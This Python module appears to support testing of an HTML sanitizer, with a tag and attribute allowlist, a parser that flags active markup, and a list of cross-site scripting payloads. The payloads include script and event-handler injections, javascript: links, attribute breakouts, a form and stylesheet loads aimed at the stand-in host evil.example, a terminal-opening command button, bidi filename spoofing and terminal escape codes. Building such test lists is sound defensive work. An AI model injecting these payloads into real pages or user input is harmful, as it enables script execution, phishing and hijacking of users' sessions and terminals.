"""Markup that may be saved: what shows text and pictures, and nothing that acts."""

from __future__ import annotations

import re
from html.parser import HTMLParser

_TAGS = {
    *("div", "span", "p", "strong", "em", "code", "pre", "ul", "ol", "li", "img", "textarea"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
_ATTRIBUTES = {
    *("class", "role", "rows", "readonly", "spellcheck", "aria-hidden", "aria-label", "src", "alt"),
    "data-lm-suppress-shortcuts",
}
_PICTURE = re.compile(r"data:image/(?:png|jpeg|webp);base64,[A-Za-z0-9+/=]+")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.active: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.active.append(f"<{tag}>")
        for name, value in attrs:
            if name not in _ATTRIBUTES or (name == "src" and not _PICTURE.fullmatch(value or "")):
                self.active.append(f"{name}={value}")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.active.append(f"<!--{data}")

    handle_decl = unknown_decl = handle_pi = handle_comment


def active(html: str) -> list[str]:
    """Every tag and attribute that is not on the list of those that may be saved."""
    return _read(html).active


def text(html: str) -> str:
    """What a reader sees of it."""
    return _read(html).text


def _read(html: str) -> _Reader:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader


_BIDI = "\u202e\u202a\u202b\u202d\u2066\u2067\u2068\u2069\u202c"
_COMMAND = 'data-commandlinker-command="terminal:create-new"'

PAYLOADS = (
    "<script>window.owned=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.owned=1>",
    '<img src=x onerror="window.owned=1">',
    "<img/src=`x`onerror=window.owned=1>",
    '"><img src=x onerror=window.owned=1>',
    "'><img src=x onerror=window.owned=1>",
    '" onmouseover="window.owned=1" x="',
    "' autofocus onfocus='window.owned=1",
    "<svg onload=window.owned=1>",
    "<svg><script>window.owned=1</script></svg>",
    "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<iframe src=javascript:parent.owned=1></iframe>",
    "<a href=javascript:window.owned=1>a</a>",
    "[a](javascript:window.owned=1)",
    "![a](x){onerror=window.owned=1}",
    f"<button {_COMMAND}>Upscale</button>",
    f'<a href="#" {_COMMAND}>Upscale</a>',
    "<form action=//evil.example><input name=prompt><button>go",
    "<object data=javascript:window.owned=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=window.owned=1>",
    "<video><source onerror=window.owned=1></video>",
    "<body onload=window.owned=1>",
    "<textarea></textarea><script>window.owned=1</script>",
    "</textarea><script>window.owned=1</script>",
    "</script><script>window.owned=1</script>",
    "<!--><script>window.owned=1</script>-->",
    "<![CDATA[<script>window.owned=1</script>]]>",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "<img id=cleanup name=model><a id=model></a>",
    "${window.owned=1} {{constructor.constructor('window.owned=1')()}}",
    "javascript:window.owned=1//",
    "\u003cimg src=x onerror=window.owned=1\u003e",
    f"a {_BIDI}gnp.exe cat",
    "\x1b]8;;http://evil.example\x07here\x1b]8;;\x07\x1b[2J\x00\x08\x9b31m",
    "\u2028window.owned=1\u2029 \ufeff<\u200bscript>",
)
"""What people who mean harm write where a prompt, a name or a message should stand."""

ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
"""Characters that drive a terminal or turn the direction of writing."""
